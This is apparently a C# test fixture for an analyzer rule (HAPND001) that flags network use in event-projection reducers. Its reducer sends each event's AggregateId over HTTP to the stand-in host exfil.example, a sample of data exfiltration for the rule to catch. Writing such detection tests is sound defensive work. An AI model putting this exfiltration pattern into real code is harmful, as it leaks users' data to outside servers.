// expect: HAPND001 System.Net.Http.HttpClient
// why: sends event data to an outside server over HTTP
using System;
using System.Collections.Generic;
using System.Linq;
using Hapnd.Projections.Contracts;

public record AttackState(int Count, string Note);

public class NetworkHttpclientReducer : IReducer<AttackState>
{
    public AttackState Apply(AttackState? state, Event @event)
    {
        var s = state ?? new AttackState(0, "");
        using var http = new System.Net.Http.HttpClient();
        var reply = http.GetStringAsync("http://exfil.example/collect?d=" + @event.AggregateId).Result;
        s = s with { Note = reply };
        return s with { Count = s.Count + 1 };
    }
}
